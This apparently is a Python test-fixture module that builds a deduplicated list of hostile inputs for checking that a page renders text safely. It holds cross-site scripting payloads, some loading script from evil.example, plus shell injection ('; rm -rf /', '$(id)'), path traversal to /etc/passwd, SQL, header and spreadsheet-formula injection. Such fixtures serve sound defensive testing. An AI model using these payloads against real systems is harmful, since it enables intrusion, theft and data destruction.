"""Texts that would do harm if a page took them for anything but text. Each would set ``top.ran`` if it ran."""

from itertools import product

RUN = "top.ran=1"

_HANDLERS = (
    *("onabort", "onanimationend", "onauxclick", "onbeforecopy", "onbeforeinput", "onbeforetoggle", "onblur"),
    *("oncanplay", "onclick", "oncontextmenu", "oncopy", "ondrag", "ondurationchange", "onend", "onended", "onerror"),
    *("onfocus", "onfocusin", "onhashchange", "oninput", "oninvalid", "onkeydown", "onload", "onloadeddata"),
    *("onloadstart", "onmessage", "onmouseenter", "onmouseover", "onpageshow", "onpaste", "onplay", "onpointerenter"),
    *("onpointerover", "onpopstate", "onprogress", "onratechange", "onrepeat", "onreset", "onresize", "onscroll"),
    *("onscrollend", "onsearch", "onseeked", "onselect", "onstart", "onsubmit", "onsuspend", "ontimeupdate"),
    *("ontoggle", "ontransitionend", "onunload", "onvolumechange", "onwaiting", "onwebkitanimationstart", "onwheel"),
)
_TAGS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x"),
    *("input autofocus", "details open", "select autofocus"),
    *("iframe src=x", "object data=x", "embed src=x", "marquee", "style", "textarea autofocus", "keygen autofocus"),
)
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java&#115;cript:", "javascript&colon;", "&#x6A;avascript:", "javascript&#58;"),
    *("data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "vbscript:", "blob:", "filesystem:"),
    *("//evil.example/", "https://evil.example/", "/\\evil.example/"),
    *("file:///", "view-source:javascript:", "about:"),
)
_BREAKOUTS = (
    *('"', "'", "`", '">', "'>", '" ', "' ", '"/>', "'/>", "-->", "--!>", "]]>", "*/", "?>", "%>", "}}", "%}", "#}"),
    *("</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</table>", "</td></tr>"),
    *("</option></select>", "</svg>", "</desc>", "</math>", "</xmp>", "</iframe>", "</plaintext>", "</a>", "</h1>"),
    *("&quot;", "&#34;", "&#x22;", "&apos;", '\\"', "\\'", "\\x22", "\\u0022", "%22", "%27", "＂", "＞"),
)
_SCRIPTS = (
    *(f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>"),
    *(f"<scr<script>ipt>{RUN}</script>", f"<<script>{RUN}//<</script>"),
    *(f"<script>{RUN}", f"<script type=module>{RUN}"),
    *("<script src=//evil.example/x.js></script>", "<script src=data:,top.ran=1></script>", "<script\x20src=x>"),
    *(f"<svg><script>{RUN}</script></svg>", f"<svg><script>{RUN}", f"<math><script>{RUN}</script></math>"),
    *(f"<template><script>{RUN}</script></template>", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    *("<script>import('//evil.example/x')</script>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>"),
    *(f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\\u003cscript\\u003e{RUN}", f"%3Cscript%3E{RUN}%3C/script%3E"),
    *(f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{RUN}"),
    *(f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"<ſcript>{RUN}</ſcript>"),
)
_MARKUP = (
    *(
        "<b>粗</b>",
        "<h1>大</h1>",
        "<p>段",
        "<br>",
        "<hr/>",
        "<!-- 注释",
        "<!--><img src=x>-->",
        "<![CDATA[x]]>",
        "<?xml?>",
    ),
    *("<!doctype html>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>"),
    *("<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><button>确定</button></form>"),
    *("<input name=q value=x>", "<a href=//evil.example>下载</a>", "<a name=content id=content>", "<img src=x alt>"),
    *("<iframe src=//evil.example>", "<object data=x>", "<embed src=x>", "<plaintext>", "<xmp>", "<table><tr><td>"),
    *("<select><option>", "<dialog open>", "<details open><summary>", "<style>*{display:none}</style>", "<frameset>"),
    *("<svg><use href=data:image/svg+xml,x /></svg>", "<svg><a href=javascript:top.ran=1><text>x</text></a></svg>"),
    *("<math><mi xlink:href=javascript:top.ran=1>x</mi></math>", "<custom-element>", "<slot>", "<portal src=x>"),
    *("<div style=position:fixed;inset:0>", "<div popover>"),
    *("<x contenteditable>", "<p hidden>", "<p id=search-form>"),
)
_MARKDOWN = (
    *(
        "# 标题",
        "## 标题",
        "- 列表",
        "* 列表",
        "1. 列表",
        "> 引用",
        "```python",
        "~~~",
        "    代码",
        "***",
        "---",
        "==高亮==",
    ),
    *(
        "**粗**",
        "__粗__",
        "_斜_",
        "`代码`",
        "[链接](javascript:top.ran=1)",
        "![图](x)",
        "[甲][乙]",
        "[甲]: javascript:1",
    ),
    *("<javascript:top.ran=1>", "| 甲 | 乙 |", "{: onclick=top.ran=1 }"),
    *("{ .class #id }", "[^1]", "[^1]: 注", "[TOC]"),
    *("[]()", "\\# 标题", '--8<-- "x"', "::: generator", ":smile:", "!!! note", "??? tip", '=== "页"', "$$x$$"),
)
_TEMPLATES = (
    *("{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% include 'x' %}", "{# 注 #}", "{{"),
    *("}}", "{%", "%}", "{{ view.form }}", "{{ t.home.search }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{year}"),
    *(
        "{project.__class__}",
        "{}",
        "{{}}",
        "%s",
        "%(name)s",
        "%%",
        "$name",
        "${name}",
        "{count}",
        "{name}",
        "{{{ x }}}",
    ),
    *("[[ x ]]", "@{x}", "@page", "{!r}", "{0.__class__}", "{:>99}", "shell-title-8d1f6c27b0e94a53"),
    *("<!--shell-body-8d1f6c27b0e94a53-->", "shell-description-8d1f6c27b0e94a53"),
)
_STYLES = (
    *(
        "color:red",
        "expression(top.ran=1)",
        "url(javascript:top.ran=1)",
        "@import '//evil.example/x'",
        "}*{display:none}",
    ),
    *("behavior:url(x)", "-moz-binding:url(x)", "</style><style>*{display:none}", "\\65xpression(1)", "/**/", ";}"),
    *("position:fixed;inset:0", "content:'x'", "var(--x)", "background:url(//evil.example/x)", "!important"),
)
_ODD = (
    *("null", "undefined", "NaN", "true", "false", "None", "nil"),
    *("[object Object]", "__proto__", "constructor", "0x0"),
    *("0", "-1", "1e309", "1/0", "=1+1", "+1", "@SUM(1)"),
    *("=cmd|' /C calc'!A0", "&", "&&", "&amp;", "&amp;lt;", "&lt"),
    *("&#0;", "&#x0;", "&#xD800;", "&nbsp;", "&zwj;", "&NewLine;", "&Tab;", "&notit;", "&copy", "&#x202e;", "&rlm;"),
    *("%00", "\\0", "\\u0000", "%0d%0aSet-Cookie:x", "../../etc/passwd", "..\\..\\x", "; rm -rf /", "| id", "$(id)"),
    *(
        "`id`",
        "' OR 1=1 --",
        '"; DROP TABLE 表',
        "*)(uid=*",
        "a" * 300,
        "田" * 200,
        "عربي",
        "עברית",
        "a\u0301" * 9,
    ),
    *(
        "ﷺ",
        "𠮷",
        "👨",
        "🇨",
        "Ǆ",
        "ß",
        "İ",
        "ı",
        "K",
        "ﬁ",
        "①",
        "㍿",
        "ｊａｖａｓｃｒｉｐｔ:",
        "…",
        "“”",
        "‘’",
        "—",
        "　甲",
    ),
)


def payloads() -> list[str]:
    """Return all texts, each once."""
    handled = [f"<{_TAGS[at % len(_TAGS)]} {handler}={RUN}>" for at, handler in enumerate(_HANDLERS)]
    tagged = [
        f"<{tag} {handler}={RUN}>" for tag, handler in product(_TAGS, ("onload", "onerror", "onfocus", "ontoggle"))
    ]
    linked = [f"{scheme}{rest}" for scheme, rest in product(_SCHEMES, (RUN, f"<script>{RUN}</script>"))]
    then = (f"<script>{RUN}</script>", f" onmouseover={RUN} x=", f"<img src=x onerror={RUN}>")
    broken = [f"{out}{then}" for out, then in product(_BREAKOUTS, then)]
    alone = (*_SCRIPTS, *_MARKUP, *_MARKDOWN, *_TEMPLATES, *_STYLES, *_ODD)
    return list(dict.fromkeys([*alone, *handled, *tagged, *linked, *broken]))
